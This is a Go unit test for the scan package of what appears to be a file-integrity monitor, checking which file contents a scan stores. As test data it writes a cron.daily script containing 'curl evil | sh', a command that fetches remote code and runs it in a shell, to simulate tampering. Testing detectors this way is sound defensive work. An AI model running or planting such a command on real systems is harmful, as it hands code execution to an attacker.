package scan

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"testing"

	"github.com/tripline/tripline/store"
)

func shaOf(s string) string {
	b := sha256.Sum256([]byte(s))
	return hex.EncodeToString(b[:])
}

// The contents a scan stores are those it hashed, read once by the hashing workers: the first
// scan stores every file's, a later scan the new content of a changed file, and --no-content
// none.
func TestScanStoresContents(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	e.scan()
	for _, c := range []string{"#!/bin/sh\n", "#!/bin/sh\necho b\n", "[Unit]\n", "[Service]\n"} {
		if got, err := e.db.Content(ctx, shaOf(c)); err != nil || string(got) != c {
			t.Errorf("content %q after the first scan: %q, %v", c, got, err)
		}
	}
	if _, err := e.db.Content(ctx, shaOf("not covered\n")); !errors.Is(err, store.ErrNoContent) {
		t.Errorf("a file outside every location: %v, want ErrNoContent", err)
	}
	e.write("etc/cron.daily/a", "#!/bin/sh\ncurl evil | sh\n", 0o755)
	e.scan()
	if got, err := e.db.Content(ctx, shaOf("#!/bin/sh\ncurl evil | sh\n")); err != nil || string(got) != "#!/bin/sh\ncurl evil | sh\n" {
		t.Errorf("the changed content after the second scan: %q, %v", got, err)
	}
	e.write("etc/cron.daily/a", "#!/bin/sh\nanother\n", 0o755)
	e.scan(func(o *Options) { o.NoContent = true })
	if _, err := e.db.Content(ctx, shaOf("#!/bin/sh\nanother\n")); !errors.Is(err, store.ErrNoContent) {
		t.Errorf("with NoContent: %v, want ErrNoContent", err)
	}
}
